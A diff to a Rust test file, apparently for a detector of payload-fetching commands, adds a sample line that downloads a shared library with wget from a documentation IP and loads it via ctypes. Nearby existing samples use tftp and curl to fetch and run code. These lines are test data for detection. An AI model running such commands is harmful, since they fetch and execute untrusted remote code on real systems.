@@ -75,6 +75,7 @@ const TEXTS: &[(&str, &[&str])] = &[
             "tftp -g -r mips 192.0.2.1; chmod 777 mips; ./mips",
             "git clone https://example.net/x.git && cd x && ./install.sh",
             "curl -s https://example.net/a.tgz | tar xz && ./a/setup",
+            "!wget -q http://192.0.2.1/l.so -O /tmp/l.so\nimport ctypes; ctypes.CDLL('/tmp/l.so')",
         ],
     ),
     (
@@ -491,8 +492,8 @@ fn a_disguised_command_is_seen_as_what_it_is() {
 fn every_rule_has_an_example() {
     for rule in rules() {
         let name = rule.name.strip_prefix("payload/").unwrap();
-        let is_binary =
-            ["elf", "pe", "mach-o", "wasm", "bytecode", "package", "archive-of-code", "macro-document"].contains(&name);
+        let binaries = "elf pe mach-o wasm bytecode machine-code package archive-of-code macro-document";
+        let is_binary = binaries.split(' ').any(|known| known == name);
         assert!(is_binary || TEXTS.iter().any(|(known, _)| *known == name), "{name}");
     }
 }
